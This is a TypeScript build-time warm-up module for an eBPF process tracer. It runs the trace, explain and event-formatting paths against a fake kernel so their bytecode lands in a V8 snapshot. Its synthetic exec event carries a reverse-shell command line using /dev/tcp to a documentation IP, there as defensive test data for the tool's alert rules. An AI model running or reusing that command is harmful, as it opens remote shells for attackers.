// Build-time warm-up for the single binary's V8 start-up snapshot (scripts/build-sea.mjs).
//
// V8 compiles a function to bytecode the first time it runs, and a snapshot keeps the
// bytecode of every function that ran while it was built (Node creates the blob with
// SnapshotCreator::FunctionCodeHandling::kKeep). Module evaluation alone runs only
// top-level code, so without this a cold start still parses and compiles the whole
// load path at run time. Running that path once here, on fresh copies of the embedded
// objects, leaves its bytecode in the snapshot:
//  - warmUpTraceLoad opens a trace session on each object, as `tsbpf trace` would,
//    against a fake kernel (fake-kernel.ts, injected through the syscall seam: every bpf()
//    succeeds with a made-up fd, maps get plain memory, mmap of a real file fails so
//    vmlinux BTF is read),
//    uncached and then from the CO-RE cache;
//  - warmUpEventPath formats synthetic events through the per-event path;
//  - warmUpExplain runs `explain --no-load` (ELF, every CO-RE record, externs).
//
// Nothing computed here may survive into the snapshot, because the build machine is not
// the machine the binary runs on: every object below is created here and dropped with
// what it cached (kernel BTF, feature answers, CO-RE memo tables: the library keeps no
// process-wide state). No koffi, no open fd.
import { existsSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Btf } from "../btf/btf.ts";
import { readCollectionSpec } from "../elf/collection.ts";
import { explainObject } from "../explain/explain.ts";
import { overrideSyscalls } from "../sys/syscalls.ts";
import { loadRuleSet, RuleEvaluator } from "../tracker/alerts.ts";
import { EV, makeRecordDecoder } from "../tracker/bpf-decode.ts";
import { EventFilter } from "../tracker/filter.ts";
import { EventWriter } from "../tracker/output.ts";
import { ProcessTable } from "../tracker/process-table.ts";
import { openSession } from "../tracker/source.ts";
import { Summary } from "../tracker/summary.ts";
import { embeddedObjectFiles } from "./assets.ts";
import { compileConsumeLoop } from "./consume-loop.ts";
import { fakeKernel } from "./fake-kernel.ts";
import { DecoderWarmUp, recordCodecs } from "./jit-warm.ts";

/** The running kernel's BTF on the build machine; the objects' own BTF when it has none. */
const BUILD_VMLINUX = "/sys/kernel/btf/vmlinux";

type Slots = Record<number, number | bigint>;
/** What the start-up path uses of Atomics, on unshared memory (see warmUpTraceLoad). */
const PLAIN_ATOMICS = {
  load: (a: Slots, i: number) => a[i],
  store: (a: Slots, i: number, v: number | bigint) => {
    a[i] = v;
    return v;
  },
  notify: () => 0,
};

/** Why the last warm-up step did nothing, for the build's log. */
export let lastWarmUpError: string | undefined;

/**
 * Opens a trace session as `tsbpf trace` does with its default options, against the fake
 * kernel: object parsed (from the file, so the binary's pre-parsed copy stays untaken),
 * record decoder, CO-RE (resolved, then from the CO-RE cache), maps, global data,
 * relocations, program marshalling, the ring-buffer reader, attach, and the process table
 * seeded from the build machine's /proc; then closes it and forgets what that run cached. Returns the number of
 * processes seeded; 0 when it failed (compile-only, as above: lastWarmUpError says why).
 */
export async function warmUpTraceLoad(objectPath: string): Promise<number> {
  lastWarmUpError = undefined;
  let seeded = 0;
  const restore = overrideSyscalls(fakeKernel());
  // Node builds its snapshots without the Atomics global (and SharedArrayBuffer); the
  // ring-buffer reader reads producer/consumer positions with Atomics.load. Plain loads
  // and stores do for the fake kernel's unshared memory, for the length of this call.
  const noAtomics = typeof Atomics === "undefined";
  if (noAtomics) (globalThis as Record<string, unknown>).Atomics = PLAIN_ATOMICS;
  // Twice, with the persistent CO-RE cache in a private directory: the first start
  // resolves CO-RE and writes an entry, the second reads it back (a user's warm start).
  // The fake kernel's entry never reaches the real cache directory.
  const cacheHome = mkdtempSync(join(tmpdir(), "tsbpf-warm-up-"));
  const savedHome = process.env.XDG_CACHE_HOME;
  process.env.XDG_CACHE_HOME = cacheHome;
  try {
    for (let pass = 0; pass < 2; pass++) {
      const session = await openSession({
        object: objectPath,
        seedProc: true,
        coreCache: true,
        // What the CLI passes (src/binary/host.ts), so the same code is compiled.
        files: embeddedObjectFiles,
        consumeLoop: compileConsumeLoop,
      });
      seeded = session.table.size;
      session.close();
    }
  } catch (e) {
    // Shown at build time only (scripts/build-sea.mjs prints it): a failure here costs
    // start-up speed, never correctness.
    lastWarmUpError = e instanceof Error ? e.message : String(e);
    seeded = 0;
  } finally {
    if (savedHome === undefined) delete process.env.XDG_CACHE_HOME;
    else process.env.XDG_CACHE_HOME = savedHome;
    rmSync(cacheHome, { recursive: true, force: true });
    if (noAtomics) delete (globalThis as Record<string, unknown>).Atomics;
    restore();
  }
  return seeded;
}

/**
 * `tsbpf explain OBJ --no-load` on each object (the static report: sections, maps,
 * relocations, every CO-RE record with its instructions, externs), with the build
 * machine's BTF, or else the object's own, as an explicit --btf target; the override
 * and the BTF it read are dropped afterwards. Returns the CO-RE records reported.
 */
export async function warmUpExplain(objects: { name: string; path: string }[]): Promise<number> {
  lastWarmUpError = undefined;
  let records = 0;
  try {
    for (const o of objects) {
      const bytes = new Uint8Array(readFileSync(o.path));
      const target = existsSync(BUILD_VMLINUX) ? BUILD_VMLINUX : o.path;
      const report = await explainObject(bytes, `warm-up:${o.name}`, { btf: target, load: false });
      records += report.core_relocations.length;
    }
  } catch (e) {
    lastWarmUpError = e instanceof Error ? e.message : String(e);
  } finally {
  }
  return records;
}

/** One round of a process's life as the kernel side reports it: fork, exec, exit. */
function syntheticRecords(btf: Btf): { bytes: Uint8Array; records: [number, number][] } {
  const { fork, exec, exit } = recordCodecs(btf);
  const enc = new TextEncoder();
  const comm = new Uint8Array(16);
  comm.set(enc.encode("warm-up"));
  const parent = 4000;
  const child = 4001;
  const hdr = (type: number, size: number, pid: number, ppid: number) => ({
    ts_boot_ns: 1_000_000_000n,
    cgroup_id: 1n,
    exec_id: 900_000_000n,
    parent_exec_id: 800_000_000n,
    type,
    size,
    pid,
    tid: pid,
    ppid,
    uid: 1000,
    gid: 1000,
    euid: 1000,
    pidns_ino: 4026531836,
    ns_pid: pid,
    ns_tid: pid,
    cpu: 0,
    comm,
  });
  const filename = enc.encode("/tmp/.warm-up\0");
  const args = enc.encode("/tmp/.warm-up\0-c\0bash -i >& /dev/tcp/192.0.2.1/9 0>&1\0");
  const out: Uint8Array[] = [];
  const f = new Uint8Array(fork.size);
  fork.encode({ hdr: hdr(EV.FORK, fork.size, child, parent), parent_pid: parent, parent_tid: parent }, f);
  out.push(f);
  const x = new Uint8Array(exec.size + filename.length + args.length);
  exec.encode(
    {
      hdr: hdr(EV.EXEC, x.length, child, parent),
      old_pid: child,
      argc: 3,
      envc: 0,
      args_size: args.length,
      env_size: 0,
      filename_len: filename.length,
      interp_len: 0,
      args_len: args.length,
      env_len: 0,
      flags: 0,
    },
    x,
  );
  x.set(filename, exec.size);
  x.set(args, exec.size + filename.length);
  out.push(x);
  const e = new Uint8Array(exit.size);
  exit.encode(
    {
      hdr: hdr(EV.EXIT, exit.size, child, parent),
      lifetime_ns: 50_000n,
      status: 0x8b, // killed by SIGSEGV, core dumped
      flags: 0,
      exit_signal: 17,
      _reserved: 0,
    },
    e,
  );
  out.push(e);
  const bytes = new Uint8Array(out.reduce((n, r) => n + r.length, 0));
  const records: [number, number][] = [];
  let p = 0;
  for (const r of out) {
    bytes.set(r, p);
    records.push([p, r.length]);
    p += r.length;
  }
  return { bytes, records };
}

/**
 * The per-event path of `tsbpf trace`, once in JSON and once in text mode: records
 * decoded from the object's BTF, the process table, the built-in rules, the output
 * writer (into /dev/null) and the summary. Returns the number of events written.
 */
export function warmUpEventPath(objectPath: string): number {
  lastWarmUpError = undefined;
  let written = 0;
  try {
    const spec = readCollectionSpec(new Uint8Array(readFileSync(objectPath)), `warm-up:${objectPath}`);
    if (!spec.btf) return 0;
    const { bytes, records } = syntheticRecords(spec.btf);
    const dv = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength);
    for (const mode of ["json", "text"] as const) {
      const table = new ProcessTable();
      table.upsert({ pid: 4000, ppid: 1, exec_id: "4000-80", comm: "warm-up" });
      const decoder = makeRecordDecoder(spec.btf, { bootToRealtimeNs: 0n, parentOf: (p) => table.get(p) });
      new DecoderWarmUp().round(0, decoder); // the drain warm-up's records (events dropped), for its bytecode
      const out = new EventWriter({ path: "/dev/null" }, { format: mode, startedAt: Date.now() });
      const rules = new RuleEvaluator(loadRuleSet(), table);
      const summary = new Summary(table);
      const filter = new EventFilter();
      for (const [off, len] of records) {
        const ev = decoder.decode(dv, off, len);
        if (!ev) continue;
        table.apply(ev);
        const alerts = rules.check(ev);
        for (const e of alerts ? [ev, ...alerts] : [ev]) {
          if (!filter.pass(e)) continue;
          out.write(e);
          summary.write(e);
        }
        written++;
      }
      out.flush();
      if (mode === "text") out.line(summary.render(table));
      out.end();
    }
  } catch (e) {
    lastWarmUpError = e instanceof Error ? e.message : String(e);
  }
  return written;
}
